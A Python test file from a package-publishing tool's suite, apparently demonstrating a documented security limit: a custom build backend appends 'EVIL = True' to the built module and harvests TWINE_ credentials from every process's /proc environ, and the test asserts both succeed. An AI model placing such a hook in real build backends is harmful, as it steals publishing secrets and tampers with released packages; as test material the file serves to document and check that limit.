"""What somebody can do of whom .github/SECURITY.md says so: not everything has a wall around it."""

from __future__ import annotations

import zipfile
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tests.stage import with_backend
from tests.test_resume import FILES

if TYPE_CHECKING:
    from tests.stage import Stage

BACKEND = """\
import pathlib
import flit_core.buildapi
from flit_core.buildapi import *

def build_wheel(*args, **options):
    with open("acme.py", "a", encoding="utf-8") as module:
        module.write("EVIL = True\\n")
    seen = []
    for place in pathlib.Path("/proc").glob("[0-9]*/environ"):
        try:
            seen += [row for row in place.read_bytes().split(b"\\0") if row.startswith(b"TWINE_")]
        except OSError:
            pass
    pathlib.Path({mark!r}).write_bytes(b"\\n".join(seen))
    return flit_core.buildapi.build_wheel(*args, **options)
"""


@pytest.mark.skipif(not Path("/proc/self/environ").exists(), reason="needs the list of processes")
def test_what_is_run_in_a_job_can_do_what_the_job_can(stage: Stage) -> None:
    mark = stage.clone.parent / "seen"
    stage.commit(with_backend(BACKEND.format(mark=str(mark))))
    process = stage.spawn("publish", "minor", "--skip-tests")
    _, err = process.communicate(timeout=120)
    assert process.returncode == 0, err
    with zipfile.ZipFile(stage.files / FILES[0]) as wheel:
        assert b"EVIL = True" in wheel.read("acme.py")
    assert stage.password in mark.read_text(encoding="utf-8")
